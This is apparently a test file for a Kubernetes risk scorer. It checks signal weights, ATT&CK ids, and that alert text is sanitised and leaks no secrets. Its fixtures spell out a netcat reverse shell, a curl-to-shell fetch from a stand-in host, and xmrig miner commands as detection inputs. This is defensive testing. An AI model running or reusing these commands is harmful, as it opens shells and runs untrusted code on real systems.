/** The table of signals as a whole, and what holds of every signal that is raised. */
import { assessRisk, readAuditEvent, SIGNALS } from '@arrivals/core/internal';
import assert from 'node:assert/strict';
import { CONTAINER } from '../alert/creations.ts';
import { as, CONTROLLER, inKubeSystem, LISTS, OWNED, pod, podWith, PRIVILEGED, riskOf } from './risks.ts';

describe('the table of signals', () => {
  /** The weights that were decided; a row's points cannot change unnoticed. */
  it('has the points that were decided', () => {
    assert.deepEqual(Object.fromEntries(SIGNALS.map(({ id, points }) => [id, points])), {
      'anonymous-actor': 90,
      miner: 50,
      'runtime-socket': 45,
      'host-access-by-hand': 45,
      'privileged-container': 40,
      'controller-account': 40,
      'host-path-writable': 35,
      'whole-node-writable': 20,
      'reverse-shell': 35,
      'fetched-code': 35,
      'system-principal-public': 35,
      'mirror-pod': 30,
      'host-pid': 25,
      capabilities: 25,
      'system-namespace': 25,
      'controller-style-name': 25,
      'contradicted-owner': 25,
      'unseen-spec': 40,
      'unseen-spec-violations': 45,
      'unseen-spec-unheld': 20,
      'system-like-namespace': 25,
      'privileged-impersonation': 25,
      'host-network': 20,
      'host-path-read-only': 20,
      'workload-token': 20,
      'privileged-namespace': 20,
      'host-ipc': 15,
      'base-image': 10,
      'self-granted-hour': 40,
      'self-granted-day': 25,
      'cluster-admin-account': 30,
      'token-not-for-pod': 20,
      'first-seen-actor': 20,
      'first-impersonation': 15,
      'first-seen-registry': 15,
      'first-seen-image': 10,
      'first-seen-user-agent': 10,
      'denied-before': 15,
      'risky-in-new-namespace': 30,
      'unlimited-namespace': 10,
    });
  });

  it('names techniques by ids that ATT&CK could have', () => {
    for (const { id: signal, techniques } of SIGNALS) {
      // What a namespace lacks is nobody's technique.
      assert.equal(techniques.length === 0, signal === 'unlimited-namespace');
      for (const id of techniques) assert.match(id, /^T\d{4}(?:\.\d{3})?$/);
    }
  });
});

describe('a signal', () => {
  it('is one, however many containers have it', () => {
    const spec = {
      containers: [{ ...CONTAINER, ...PRIVILEGED }],
      initContainers: [{ name: 'setup', ...PRIVILEGED }],
    };
    const { signals } = riskOf(pod(spec, CONTROLLER, OWNED));
    assert.deepEqual(signals, [
      {
        id: 'privileged-container',
        points: 40,
        techniques: [{ id: 'T1611', name: 'Escape to Host' }],
        text: 'Runs privileged, with the node’s devices and every capability: the init container "setup", "main".',
        fields: ['object.containers[0].privileged', 'object.containers[1].privileged'],
      },
    ]);
  });

  it('names a bounded number of places, and the number of the rest', () => {
    const containers = Array.from({ length: 40 }, (_unused, i) => ({ name: `c${String(i)}`, ...PRIVILEGED }));
    const [signal] = riskOf(pod({ containers }, CONTROLLER, OWNED)).signals;
    assert.equal(signal?.fields.length, 8);
    assert.match(signal.text, /"c0", "c1", "c2" and 37 more\.$/);
  });

  it('shows outside text inside quotes, on one line, printable and short', () => {
    const name = `a"\n\t\u202e\u0000${'x'.repeat(500)}`;
    const { signals } = riskOf(
      pod(
        { containers: [{ name, image: `ubuntu${name}/xmrig`, ...PRIVILEGED, command: ['nc', '-e', 'sh'] }] },
        as(name),
        { ...inKubeSystem, name },
      ),
    );
    assert.ok(signals.length >= 4);
    for (const { text } of signals) {
      assert.doesNotMatch(text, /[\p{Cc}\p{Cf}]/u);
      assert.ok(text.length < 500, text);
      assert.equal((text.match(/"/g) ?? []).length % 2, 0, text);
    }
  });

  it('repeats nothing of a command or a value, which may hold secrets', () => {
    const secret = 'hunter2';
    const container = {
      command: [
        'sh',
        '-c',
        `nc -e /bin/sh ${secret} 1; curl -u ${secret}:${secret} http://drop.example/${secret} | sh; xmrig -u ${secret}`,
      ],
      env: [{ name: 'PASSWORD', value: `stratum+tcp://${secret}@h:1` }],
    };
    const text = JSON.stringify(riskOf(podWith(container)).signals);
    for (const id of ['miner', 'reverse-shell', 'fetched-code']) assert.ok(text.includes(`"${id}"`), id);
    assert.ok(!text.includes(secret), text);
  });

  it('is found whatever the spec holds', () => {
    for (const odd of [null, 7, 'x', [], [null], [{ name: 7 }], {}])
      for (const field of [
        'containers',
        'initContainers',
        'volumes',
        'hostPID',
        'securityContext',
        'serviceAccountName',
      ])
        assert.ok(
          assessRisk({ event: readAuditEvent(pod({ [field]: odd })), created: 'Pod', lists: LISTS }).score >=
            0,
        );
  });
});
